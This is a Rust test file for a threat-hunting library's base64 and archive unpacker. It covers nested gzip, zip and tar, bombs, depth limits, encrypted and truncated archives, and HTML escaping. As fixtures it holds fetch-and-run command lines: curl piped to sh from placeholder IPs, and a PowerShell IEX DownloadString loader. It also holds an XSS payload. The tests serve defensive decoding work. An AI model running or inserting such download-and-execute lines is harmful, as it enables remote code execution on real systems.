//! Base64 and archive unpacking through the public API: archives, limits,
//! bombs, hostile and broken input.

use ::zip::write::SimpleFileOptions;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use huntbook::prelude::*;
use huntbook::transform::unpack::{Encoding, StopReason, Unpacker, Utf16Mode, export_df};
use std::io::{Cursor, Write};

fn b64(bytes: &[u8]) -> String {
    STANDARD.encode(bytes)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zip_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
    let opts = SimpleFileOptions::default()
        .compression_method(::zip::CompressionMethod::Deflated)
        .large_file(true);
    for (name, data) in members {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_ustar();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn reasons(out: &Unpacked) -> Vec<String> {
    out.items().iter().filter_map(|i| i.stop_reason()).collect()
}

#[test]
fn gzip_base64_with_file_name_and_nested_base64() {
    // gzip of a script holding another base64 blob, with FNAME set
    let inner = format!(
        "echo {} | base64 -d | sh",
        b64(b"curl -s http://203.0.113.5/s | sh")
    );
    let mut e = flate2::GzBuilder::new()
        .filename("stage.sh")
        .write(Vec::new(), flate2::Compression::default());
    e.write_all(inner.as_bytes()).unwrap();
    let gz = e.finish().unwrap();
    let out = Unpacker::new()
        .unpack(&format!("x {} y", b64(&gz)))
        .unwrap();
    let items = out.items();
    assert_eq!(items.len(), 2);
    assert_eq!(items[0].file_name, "stage.sh");
    assert_eq!(items[0].file_type.as_deref(), Some("gz"));
    assert_eq!(items[0].decoded_string.as_deref(), Some(inner.as_str()));
    assert_eq!(items[1].reference, "1.1");
    assert_eq!(items[1].depth, 2);
    assert_eq!(
        items[1].decoded_string.as_deref(),
        Some("curl -s http://203.0.113.5/s | sh")
    );
    assert_eq!(
        out.decoded_string(),
        "x <decoded type='string' name='[gz] Filename: stage.sh' index='1' depth='1'>echo \
         <decoded type='string' name='[None]' index='1.1' depth='2'>curl -s http://203.0.113.5/s | sh\
         </decoded> | base64 -d | sh</decoded> y"
    );
}

#[test]
fn multi_member_zip_gets_an_archive_row_and_child_paths() {
    let z = zip_of(&[("a.txt", b"alpha text"), ("b.bin", &[0x00, 0xff, 0x81])]);
    let out = unpack(&b64(&z)).unwrap();
    let items = out.items();
    assert_eq!(items.len(), 3);
    assert_eq!(
        (
            items[0].reference.as_str(),
            items[0].depth,
            items[0].file_type.as_deref()
        ),
        ("1", 1, Some("zip"))
    );
    assert_eq!(items[0].encoding_type, Some(Encoding::Binary));
    assert_eq!(items[0].input_bytes, z);
    assert_eq!(
        (
            items[1].reference.as_str(),
            items[1].depth,
            items[1].file_name.as_str()
        ),
        ("1.1", 2, "a.txt")
    );
    assert_eq!(items[1].decoded_string.as_deref(), Some("alpha text"));
    assert_eq!(items[2].file_name, "b.bin");
    assert_eq!(items[2].encoding_type, Some(Encoding::Binary));
    assert_eq!(items[2].printable_bytes.as_deref(), Some("00 ff 81"));
    assert_eq!(
        out.decoded_string(),
        "<decoded value='multiple binary' type='multiple' index='1' depth='1'>\
         <decoded type='string' name='[zip] Filename: a.txt' index='1.1' depth='2'>alpha text</decoded>\
         <decoded value='binary'  name='[zip] Filename: b.bin' type='zip' index='1.2' depth='2'>00 ff 81</decoded>\
         </decoded>"
    );
}

#[test]
fn tar_gz_is_unpacked_through_both_layers() {
    let t = tar_of(&[("run.sh", b"#!/bin/sh\nid\n"), ("notes.txt", b"hello")]);
    let out = unpack(&format!("blob {}", b64(&gzip(&t)))).unwrap();
    let names: Vec<(&str, &str, Option<&str>)> = out
        .items()
        .iter()
        .map(|i| {
            (
                i.reference.as_str(),
                i.file_name.as_str(),
                i.file_type.as_deref(),
            )
        })
        .collect();
    assert_eq!(
        names,
        vec![
            ("1", "unknown", Some("tar")),
            ("1.1", "run.sh", Some("tar")),
            ("1.2", "notes.txt", Some("tar")),
        ]
    );
    assert_eq!(
        out.items()[1].decoded_string.as_deref(),
        Some("#!/bin/sh\nid\n")
    );
    assert_eq!(
        out.items()[0].depth,
        2,
        "the tar is one level inside the gzip"
    );
}

#[test]
fn bundled_samples_unpack() {
    let text =
        std::fs::read_to_string(bundled("msticpy/testdata/b64text_inzip.txt").unwrap()).unwrap();
    let out = unpack(&text).unwrap();
    assert_eq!(out.items().len(), 2);
    let it = &out.items()[0];
    assert_eq!(it.file_name, "txtenc.txt");
    assert_eq!(it.file_type.as_deref(), Some("zip"));
    assert_eq!(
        it.decoded_string.as_deref(),
        Some(
            "-----BEGIN CERTIFICATE-----\r\n//50AGUAeAB0AA0ACgBmAGkAbABlAA0ACgA=\r\n\
             -----END CERTIFICATE-----\r\n"
        )
    );
    // The member holds a UTF-16LE (BOM) blob, which MSTICPy leaves binary.
    let inner = &out.items()[1];
    assert_eq!((inner.reference.as_str(), inner.depth), ("1.1", 2));
    assert_eq!(inner.encoding_type, Some(Encoding::Utf16));
    assert_eq!(inner.decoded_string.as_deref(), Some("text\r\nfile\r\n"));
    assert_eq!(
        out.decoded_string(),
        "-----BEGIN CERTIFICATE-----<decoded type='string' name='[zip] Filename: txtenc.txt' \
         index='1' depth='1'>-----BEGIN CERTIFICATE-----<decoded type='string' name='[None]' \
         index='1.1' depth='2'>text\r\nfile\r\n</decoded>\r\n-----END CERTIFICATE-----\r\n\
         </decoded>\n-----END CERTIFICATE-----\n"
    );

    let text = std::fs::read_to_string(bundled("msticpy/testdata/base64msg.txt").unwrap()).unwrap();
    let out = unpack(&text).unwrap();
    let rows: Vec<(&str, u32, &str, Option<&str>)> = out
        .items()
        .iter()
        .map(|i| {
            (
                i.reference.as_str(),
                i.depth,
                i.file_name.as_str(),
                i.file_type.as_deref(),
            )
        })
        .collect();
    // A tar (certificate inside), then a three-member zip whose third
    // member is a gzip (unpacked one level deeper).
    // A three-member tar and a three-member zip (the same files): each
    // third member is a gzip, unpacked one level further down; the text
    // members hold base64 again (binary, and a UTF-16 BOM text).
    let expected: Vec<(&str, u32, &str, Option<&str>)> = vec![
        ("1", 1, "unknown", Some("tar")),
        ("1.1", 2, "dllenc.txt", Some("tar")),
        ("1.1.1", 3, "unknown", None),
        ("1.2", 2, "txtenc.txt", Some("tar")),
        ("1.2.1", 3, "unknown", None),
        ("1.3", 3, "txtfileenc.txt", Some("gz")),
        ("1.3.1", 4, "unknown", None),
        ("2", 1, "unknown", Some("zip")),
        ("2.1", 2, "dllenc.txt", Some("zip")),
        ("2.1.1", 3, "unknown", None),
        ("2.2", 2, "txtenc.txt", Some("zip")),
        ("2.2.1", 3, "unknown", None),
        ("2.3", 3, "txtfileenc.txt", Some("gz")),
        ("2.3.1", 4, "unknown", None),
    ];
    assert_eq!(rows, expected);
    let encodings: Vec<Option<Encoding>> = out.items().iter().map(|i| i.encoding_type).collect();
    use Encoding::{Binary, Utf8, Utf16};
    assert_eq!(
        encodings[..7],
        [
            Some(Binary),
            Some(Utf8),
            Some(Binary),
            Some(Utf8),
            Some(Utf16),
            Some(Utf8),
            Some(Utf16)
        ]
    );
    assert_eq!(
        out.items()[4].decoded_string,
        out.items()[11].decoded_string
    );
    assert!(reasons(&out).is_empty(), "{:?}", reasons(&out));
}

#[test]
fn gzip_bomb_stops_at_the_ratio_limit() {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(&vec![0u8; 16 << 20]).unwrap();
    let bomb = e.finish().unwrap();
    let out = unpack(&b64(&bomb)).unwrap();
    let it = &out.items()[0];
    assert_eq!(it.file_type.as_deref(), Some("gz"));
    assert!(it.input_bytes.is_empty());
    assert_eq!(it.md5, None);
    assert_eq!(
        it.stop_reasons,
        vec![StopReason::MaxRatio {
            limit: 200,
            compressed: bomb.len() as u64
        }]
    );
    // a smaller member limit wins over the ratio
    let out = Unpacker::new()
        .max_member_size(1 << 20)
        .unpack(&b64(&bomb))
        .unwrap();
    assert_eq!(
        out.items()[0].stop_reason().as_deref(),
        Some("max_member_size 1048576 bytes exceeded: content not kept")
    );
    // and a smaller total budget over both
    let out = Unpacker::new()
        .max_total_bytes(256 << 10)
        .unpack(&b64(&bomb))
        .unwrap();
    assert_eq!(out.items()[0].stop_reasons, vec![StopReason::MaxTotalBytes]);
}

#[test]
fn zip_bomb_members_are_refused_or_stopped() {
    let zeros = vec![0u8; 24 << 20];
    let z = zip_of(&[("big.bin", &zeros), ("small.txt", b"ok")]);
    // Declared size over max_member_size: refused before inflating.
    let out = unpack(&b64(&z)).unwrap();
    let big = &out.items()[1];
    assert_eq!(big.file_name, "big.bin");
    assert_eq!(
        big.stop_reasons,
        vec![StopReason::MaxMemberSize { limit: 8 << 20 }]
    );
    assert_eq!(out.items()[2].decoded_string.as_deref(), Some("ok"));
    // With a large member limit, the ratio stops it while inflating.
    let out = Unpacker::new()
        .max_member_size(1 << 30)
        .unpack(&b64(&z))
        .unwrap();
    assert!(matches!(
        out.items()[1].stop_reasons[..],
        [StopReason::MaxRatio { limit: 200, .. }]
    ));
    // Too many members.
    let many: Vec<(String, Vec<u8>)> = (0..300)
        .map(|i| (format!("f{i}.txt"), format!("file {i}").into_bytes()))
        .collect();
    let refs: Vec<(&str, &[u8])> = many
        .iter()
        .map(|(n, d)| (n.as_str(), d.as_slice()))
        .collect();
    let out = unpack(&b64(&zip_of(&refs))).unwrap();
    assert_eq!(out.items().len(), 1 + 256);
    assert_eq!(
        out.items()[0].stop_reason().as_deref(),
        Some("max_members 256 reached: 44 more members not read")
    );
}

#[test]
fn encrypted_zip_is_reported() {
    let mut z = zip_of(&[
        ("secret.ps1", b"Write-Host secret"),
        ("readme.txt", b"plain"),
    ]);
    // Set the "encrypted" flag of the first member in its local and central headers.
    let local = z.windows(4).position(|w| w == b"PK\x03\x04").unwrap();
    z[local + 6] |= 1;
    let central = z.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
    z[central + 8] |= 1;
    let out = unpack(&b64(&z)).unwrap();
    let first = &out.items()[0];
    assert_eq!(first.file_type.as_deref(), Some("zip (pwd protected)"));
    assert_eq!(
        first.stop_reason().as_deref(),
        Some("encrypted: members secret.ps1 not decrypted")
    );
    assert_eq!(out.items()[1].file_name, "readme.txt");
    assert_eq!(out.items()[1].decoded_string.as_deref(), Some("plain"));
}

/// A gzip member holding `data` in stored blocks (no compression work).
fn stored_gzip(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut chunks = data.chunks(65_535).peekable();
    if data.is_empty() {
        out.extend([1, 0, 0, 0xff, 0xff]);
    }
    while let Some(c) = chunks.next() {
        let last = chunks.peek().is_none();
        let len = c.len() as u16;
        out.push(u8::from(last));
        out.extend(len.to_le_bytes());
        out.extend((!len).to_le_bytes());
        out.extend_from_slice(c);
    }
    let mut crc = flate2::Crc::new();
    crc.update(data);
    out.extend(crc.sum().to_le_bytes());
    out.extend((data.len() as u32).to_le_bytes());
    out
}

#[test]
fn ten_thousand_nested_gzips_stop_at_max_depth() {
    let mut layer = b"the innermost payload".to_vec();
    for _ in 0..10_000 {
        layer = stored_gzip(&layer);
    }
    let out = unpack(&b64(&layer)).unwrap();
    let last = out.items().last().unwrap();
    assert_eq!(out.items().len(), 1);
    assert_eq!(last.depth, 20);
    assert_eq!(last.file_type.as_deref(), Some("gz"));
    assert_eq!(last.encoding_type, Some(Encoding::Binary));
    assert!(last.sha256.is_some());
    assert_eq!(
        last.stop_reason().as_deref(),
        Some("max_depth 20 reached: not decoded or unpacked further")
    );
    // The nesting limit also bounds deep base64-in-text chains.
    let mut text = "echo pwned-at-the-bottom-of-the-chain".to_string();
    for _ in 0..25 {
        text = format!("echo {}", b64(text.as_bytes()));
    }
    let out = Unpacker::new().max_depth(12).unpack(&text).unwrap();
    assert_eq!(out.items().len(), 12);
    assert_eq!(out.items()[11].depth, 12);
    assert_eq!(out.items()[11].reference, "1.1.1.1.1.1.1.1.1.1.1.1");
    assert_eq!(
        out.items()[11].stop_reason().as_deref(),
        Some("max_depth 12 reached: not decoded or unpacked further")
    );
}

#[test]
fn truncated_gzip_keeps_what_decoded() {
    let script: String = (0..400).map(|i| format!("Write-Host line {i}; ")).collect();
    let gz = gzip(script.as_bytes());
    let out = unpack(&b64(&gz[..gz.len() * 2 / 3])).unwrap();
    let it = &out.items()[0];
    assert_eq!(it.file_type.as_deref(), Some("gz"));
    let partial = it.decoded_string.as_deref().unwrap();
    assert!(!partial.is_empty() && script.starts_with(partial));
    let reason = it.stop_reason().unwrap();
    assert!(reason.starts_with("corrupt gzip: "), "{reason}");
    assert!(reason.ends_with("content is partial"), "{reason}");
    // only a header: reported as a binary of type gz with the reason
    let mut header_only = gz[..10].to_vec();
    header_only.extend([0xff; 20]);
    let out = unpack(&b64(&header_only)).unwrap();
    let it = &out.items()[0];
    assert_eq!(it.encoding_type, Some(Encoding::Binary));
    assert_eq!(it.file_type.as_deref(), Some("gz"));
    assert!(it.stop_reason().unwrap().starts_with("corrupt gzip"));
}

#[test]
fn bad_padding_and_short_runs_are_left_alone() {
    for text in [
        "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFza | base64 -d",
        "echo c2hvcnQgb25l | base64 -d",
        "Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA=",
        "",
        "==============================================",
    ] {
        let out = unpack(text).unwrap();
        assert_eq!(out.decoded_string(), text);
        assert!(out.items().is_empty(), "{text}");
        assert_eq!(out.df().height(), 0);
    }
}

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

#[test]
fn binary_noise_is_a_binary_item() {
    let mut rng = Rng(7);
    for n in [30, 64, 500, 5000] {
        let noise = rng.bytes(n);
        let out = unpack(&format!("noise {}", b64(&noise))).unwrap();
        let it = &out.items()[0];
        assert_eq!(it.input_bytes, noise);
        assert_eq!(it.encoding_type, Some(Encoding::Binary), "{n}");
        assert_eq!(it.file_type, None);
        assert!(it.decoded_string.is_none());
    }
    // printable_bytes is cut at max_printable_bytes
    let out = Unpacker::new()
        .max_printable_bytes(4)
        .unpack(&b64(&[0xffu8; 40]))
        .unwrap();
    assert_eq!(
        out.items()[0].printable_bytes.as_deref(),
        Some("ff ff ff ff …(+36 bytes)")
    );
}

#[test]
fn raw_deflate_powershell_loader_is_inflated() {
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/p.ps1')";
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(script.as_bytes()).unwrap();
    let raw = e.finish().unwrap();
    let line = format!(
        "powershell -c \"IEX(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
        b64(&raw)
    );
    let out = unpack(&line).unwrap();
    let it = &out.items()[0];
    assert_eq!(it.file_type.as_deref(), Some("deflate"));
    assert_eq!(it.file_name, "deflate_stream");
    assert_eq!(it.decoded_string.as_deref(), Some(script));
    let off = Unpacker::new().raw_deflate(false).unpack(&line).unwrap();
    assert_eq!(off.items()[0].encoding_type, Some(Encoding::Binary));
}

#[test]
fn utf16_modes_on_a_powershell_payload() {
    let cmd: Vec<u8> = "Get-Process | Stop-Process"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let line = format!("powershell -enc {}", b64(&cmd));
    let auto = unpack(&line).unwrap();
    assert_eq!(auto.items()[0].encoding_type, Some(Encoding::Utf16));
    assert_eq!(
        auto.decoded_string(),
        "powershell -enc <decoded type='string' name='[None]' index='1' depth='1'>Get-Process | Stop-Process</decoded>"
    );
    let off = Unpacker::new().utf16(Utf16Mode::Off).unpack(&line).unwrap();
    assert_eq!(off.items()[0].encoding_type, Some(Encoding::Utf8));
}

#[test]
fn frames_empty_null_and_bad_columns() {
    let df = df!("CommandLine" => [Some("no base64 here"), None, Some("")]).unwrap();
    let out = unpack_df(&df, "CommandLine").unwrap();
    assert_eq!(out.df().height(), 0);
    assert_eq!(out.rows(), 3);
    assert_eq!(out.rows_decoded(), 0);
    assert_eq!(out.df().width(), 17);
    let err = unpack_df(&df, "Nope").unwrap_err().to_string();
    assert_eq!(
        err,
        "column 'Nope' not found in the input frame with columns [CommandLine]"
    );
    let nums = df!("n" => [1i64, 2]).unwrap();
    assert_eq!(
        unpack_df(&nums, "n").unwrap_err().to_string(),
        "invalid column 'n': must hold strings to unpack, but its type is i64"
    );
    let clash = df!("reference" => ["x"]).unwrap();
    assert!(unpack_df(&clash, "reference").is_err());
}

#[test]
fn frame_rows_and_export() {
    let df = df!("cmd" => [
        "plain",
        "a Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA== b",
        "/opt/splunkforwarder/bin/splunkd -p 8089 start",
    ])
    .unwrap();
    let out = unpack_df(&df, "cmd").unwrap();
    assert_eq!(out.rows_decoded(), 2);
    let idx: Vec<Option<IdxSize>> = out
        .df()
        .column("src_index")
        .unwrap()
        .idx()
        .unwrap()
        .iter()
        .collect();
    assert_eq!(idx, vec![Some(1), Some(2)]);
    let exported = out.export_df().unwrap();
    assert!(exported.column("file_hashes").is_err());
    let hexed = exported
        .column("input_bytes")
        .unwrap()
        .str()
        .unwrap()
        .get(1)
        .unwrap()
        .to_string();
    assert_eq!(hexed, "fe8a6dfeca65ba791fa2bc1aadd7abfdb8a7feca65ba791d");
    // CSV writes (no nested types left)
    let mut buf = Vec::new();
    let mut e = export_df(out.df()).unwrap();
    CsvWriter::new(&mut buf).finish(&mut e).unwrap();
    assert!(
        String::from_utf8(buf)
            .unwrap()
            .starts_with("reference,original_string,")
    );
}

#[test]
fn html_is_escaped() {
    let payload = "<script>alert('x')</script><img src=x onerror=alert(1)>";
    let out = unpack(&format!("run {}", b64(payload.as_bytes()))).unwrap();
    let html = out.to_html();
    assert!(!html.contains("<script>alert"));
    assert!(!html.contains("<img src=x"));
    assert!(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;"));
    assert!(html.contains("&lt;decoded type=&#39;string&#39;"));
    let text = out.to_text();
    assert!(text.contains(payload));
    let df = df!("c" => [format!("x {}", b64(payload.as_bytes()))]).unwrap();
    let html = unpack_df(&df, "c").unwrap().to_html();
    assert!(!html.contains("<script>alert"));
    assert!(html.contains("Column &#39;c&#39;: 1 decoded item(s) from 1 of 1 rows."));
}

#[test]
fn unpack_bytes_reads_a_raw_archive() {
    let z = zip_of(&[("dropper.ps1", b"IEX 'hi'")]);
    let out = Unpacker::new().unpack_bytes(&z).unwrap();
    assert_eq!(out.items()[0].file_name, "dropper.ps1");
    assert_eq!(&*out.items()[0].original_string, "");
    assert_eq!(
        out.decoded_string(),
        "<decoded type='string' name='[zip] Filename: dropper.ps1' index='1' depth='1'>IEX 'hi'</decoded>"
    );
    assert!(
        Unpacker::new()
            .unpack_bytes(&[])
            .unwrap()
            .items()
            .is_empty()
    );
}
